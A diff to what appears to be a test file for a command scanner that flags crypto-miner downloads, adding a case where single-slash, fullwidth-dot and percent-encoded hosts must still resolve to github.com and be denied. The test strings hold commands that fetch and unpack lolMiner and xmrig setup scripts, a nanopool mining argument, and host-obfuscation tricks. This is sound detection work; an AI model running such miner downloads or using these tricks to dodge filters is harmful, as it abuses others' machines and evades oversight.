@@ -86,6 +86,16 @@ t.test("dots Python's idna codec (IDNA 2003, NFKC) reads and UTS #46 refuses sti
   t.equal(hostsAsResolved('-o xmr-eu\u2488nanopool.org:14433'), '-o xmr-eu1.nanopool.org:14433')
 })
 
+t.test('a host after one slash (`https:/host`, which curl 7.88.1 accepts) is a host, not a path segment', async (t) => {
+  for (const url of [`https:/github.com${LOLMINER}`, `https:/github\u3002com${LOLMINER}`, `https:/github%2ecom${LOLMINER}`]) {
+    const found = findings({ command: ['sh', '-c', `curl -sLO ${url} && tar xzf lolMiner_v1.88_Lin64.tar.gz`] })
+    t.equal(found[0]?.action, 'deny', `${JSON.stringify(url)}: ${JSON.stringify(found)}`)
+    t.match(found[0]?.message, /downloads a miner installer from "github\.com\/Lolliedieb/, JSON.stringify(url))
+  }
+  t.equal(hostsAsResolved('curl http:/ｌocalhost。x/y'), 'curl http:/localhost.x/y')
+  t.equal(hostsAsResolved('cat /srv/ｌocalhost。x/y'), 'cat /srv/ｌocalhost。x/y', 'after a lone slash it is a path segment')
+})
+
 t.test('a decoded slash, and escapes a miner does not decode, need no rule and add nothing', async (t) => {
   // curl: "URL using bad/illegal format" (a decoded `/` is no host character).
   t.same(findings({ command: ['sh', '-c', `curl -sL https://raw.githubusercontent.com%2fC3Pool/xmrig_setup/x.sh -o x.sh`] }), [])
